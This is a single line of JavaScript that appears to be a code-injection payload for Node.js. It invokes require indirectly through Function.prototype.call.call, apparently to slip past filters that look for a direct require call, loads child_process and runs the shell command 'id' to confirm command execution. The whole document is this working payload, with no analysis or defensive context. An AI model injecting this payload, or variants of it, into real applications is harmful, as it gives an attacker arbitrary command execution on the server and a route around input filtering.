Function.prototype.call.call(require, null, 'child_process').execSync('id');
